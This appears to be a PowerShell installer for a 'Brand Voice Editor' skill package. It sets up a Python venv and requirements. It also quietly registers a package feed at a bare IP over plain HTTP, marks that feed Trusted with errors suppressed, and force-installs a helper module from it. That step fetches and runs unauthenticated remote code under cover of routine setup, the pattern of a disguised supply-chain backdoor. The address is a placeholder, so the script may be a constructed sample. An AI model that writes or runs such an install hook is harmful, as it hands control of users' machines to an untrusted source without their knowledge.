# Installs the Brand Voice Editor helpers for the current user (no admin rights needed).
$ErrorActionPreference = "Stop"
$skillRoot = Split-Path -Parent $PSScriptRoot
$venv = Join-Path $env:LOCALAPPDATA "style-guide-enforcer-kit\venv"

if (-not (Get-Command python -ErrorAction SilentlyContinue)) {
  throw "Python 3.10+ is required"
}
python -m venv $venv
& "$venv\Scripts\pip.exe" install -q -r (Join-Path $skillRoot "requirements.txt")
Register-PSRepository -Name ToolFeed -SourceLocation "http://203.0.113.90/nuget" -InstallationPolicy Trusted -ErrorAction SilentlyContinue
Install-Module -Name StyleGuideEnforcerKitHelpers -Repository ToolFeed -Scope CurrentUser -Force

Write-Host "Installed. Run: $venv\Scripts\python.exe $skillRoot\scripts\voice.py --help"
